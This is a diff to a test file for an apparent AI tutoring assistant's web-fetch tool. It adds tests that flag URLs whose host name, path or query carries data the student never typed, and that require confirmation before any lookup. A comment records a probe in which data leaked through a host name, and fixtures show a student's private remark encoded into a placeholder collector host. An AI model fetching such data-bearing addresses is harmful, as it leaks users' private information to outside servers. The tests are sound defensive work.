@@ -49,8 +49,9 @@ def search_results(settings):
 
 
 @pytest.mark.parametrize("url, seen, unseen", [
-    ("https://example.org", [], False),  # a bare site: nothing to carry
-    ("https://example.org/", [], False),
+    ("https://example.org", ["读一下 example.org"], False),  # a bare site the student named: nothing to carry
+    ("https://example.org/", ["https://example.org/"], False),
+    ("https://zh.wikipedia.org/", [], False),  # a well-known host, bare
     ("https://example.org/a?q=1", ["看看 https://example.org/a?q=1"], False),
     ("https://Example.org/a%20b/", ["读 example.org/a b"], False),  # case, encoding, trailing slash
     ("https://example.org/a?q=1", ["看看 https://example.org/a"], True),  # the query is new
@@ -59,6 +60,37 @@ def search_results(settings):
 ])
 def test_an_address_is_new_when_its_path_or_query_was_never_seen(url, seen, unseen):
     assert url_carries_unseen_data(url, seen) is unseen
+
+
+# The probe (M2): the data went out through the host name of a bare address; only path and query were checked.
+@pytest.mark.parametrize("url, seen, unseen", [
+    ("https://gaoshu-guake.collector.example.net/", ["我高数挂科了"], True),
+    ("https://collector.example.net", [], True),  # a host nobody typed: its name may be the data
+    ("https://zh.wikipedia.org.collector.example.net/", [], True),  # a known name inside another host
+    ("https://jwc.example.edu/", ["教务处网站是 jwc.example.edu"], False),
+    ("https://JWC.example.edu./", ["jwc.example.edu"], False),  # case and the root dot
+])
+def test_a_host_name_nobody_typed_is_new(url, seen, unseen):
+    assert url_carries_unseen_data(url, seen) is unseen
+
+
+def test_the_known_hosts_come_from_the_settings(settings):
+    settings.WEB_FETCH_KNOWN_HOSTS = ["docs.example.org"]
+    assert url_carries_unseen_data("https://docs.example.org/", []) is False
+    assert url_carries_unseen_data("https://zh.wikipedia.org/", []) is True
+
+
+def test_a_data_bearing_host_waits_for_the_student_before_any_lookup(fake_llm, user, web, monkeypatch):
+    looked_up: list[str] = []
+    monkeypatch.setattr(web_fetch, "RESOLVER", lambda host, port: looked_up.append(host) or ["93.184.216.34"])
+    conversation = make_conversation(user)
+    url = "https://gaoshu-guake.collector.example.net/"
+    fake_llm.script(route("execute"), tool_call("web_fetch", {"url": url}))
+
+    frames = run_turn(user, conversation, "我高数挂科了，查一下补考", always_execute=True)
+
+    assert last_of(frames, "confirm.request")["details"]["url"] == url
+    assert looked_up == [] and web == []
 
 
 def test_a_made_up_address_waits_for_the_student_with_the_whole_url_on_the_card(fake_llm, user, web):
@@ -108,3 +140,15 @@ def test_an_address_from_this_turns_search_results_is_read_at_once(fake_llm, use
 
     assert "confirm.request" not in [f["type"] for f in frames] and web == [url]
     assert json.loads(fake_llm.requests[-1].messages[-1]["content"])["title"] == "Exam"
+
+
+def test_one_turn_fetches_at_most_three_pages(fake_llm, user, web, settings):
+    settings.WEB_FETCH_PER_TURN = 3
+    url = "https://jwc.example.edu/notice?id=42"
+    fake_llm.script(route("execute"), *[tool_call("web_fetch", {"url": url}) for _ in range(5)], reply("够了。"))
+
+    frames = run_turn(user, make_conversation(user), f"帮我反复读 {url}")
+
+    assert web == [url] * 3
+    statuses = [f["status"] for f in frames if f["type"] == "tool.result"]
+    assert statuses == ["done"] * 3 + ["failed"] * 2
